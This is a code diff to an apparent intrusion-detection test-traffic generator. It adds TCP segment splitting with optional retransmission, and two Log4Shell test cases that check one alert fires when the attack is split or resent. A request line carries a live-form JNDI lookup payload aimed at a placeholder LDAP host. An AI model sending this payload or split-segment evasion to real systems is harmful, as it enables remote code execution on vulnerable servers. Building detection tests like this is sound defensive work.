@@ -249,6 +249,18 @@ class TcpSession:
                 self.sseq += len(seg)
             self._send(not from_client, "A")
 
+    def send_split(self, data, cuts, retransmit=()):
+        """Client -> server DATA cut at offsets CUTS into separate segments (each acknowledged); segment
+        numbers in RETRANSMIT are sent twice, as after a lost ACK."""
+        bounds = [0] + list(cuts) + [len(data)]
+        for i in range(len(bounds) - 1):
+            seg = data[bounds[i]:bounds[i + 1]]
+            self._send(True, "PA", seg)
+            if i in retransmit:
+                self._send(True, "PA", seg, dt=0.2)
+            self.cseq += len(seg)
+            self._send(False, "A")
+
     def close(self):
         self._send(True, "FA")
         self.cseq += 1
@@ -514,6 +526,18 @@ def scen_log4shell(cap, ports):
         sport = http_exchange(cap, net, ports, cli, srv, request, http_response(status="400 Bad Request"),
                               dport=8080, dt=0.4)
         alerts.append(expect(sid, "globex", cli, srv, 8080, sport=sport, net=net, note=note))
+    # The same lookup split over two TCP segments inside "${jndi:", then one whose segment is retransmitted:
+    # stream inspection must see the first once and the second only once.
+    request = http_get("/", "portal.globex.example", ua="${jndi:ldap://%s:1389/Split}" % JNDI_HOST)
+    for cuts, retransmit, note in [([request.index(b"${jndi:") + 3], (), "lookup split over two segments"),
+                                   ([], (0,), "attack segment retransmitted: one alert")]:
+        sport = ports()
+        s = TcpSession(cap, net, cli, srv, sport, 8080)
+        s.open(dt=0.4)
+        s.send_split(request, cuts, retransmit)
+        s.send(http_response(status="400 Bad Request"), from_client=False)
+        s.close()
+        alerts.append(expect(9100201, "globex", cli, srv, 8080, sport=sport, net=net, note=note))
     return {"description": "Log4Shell (CVE-2021-44228) JNDI lookups against a globex service on 8080 (GENEVE)",
             "alerts": alerts}
 
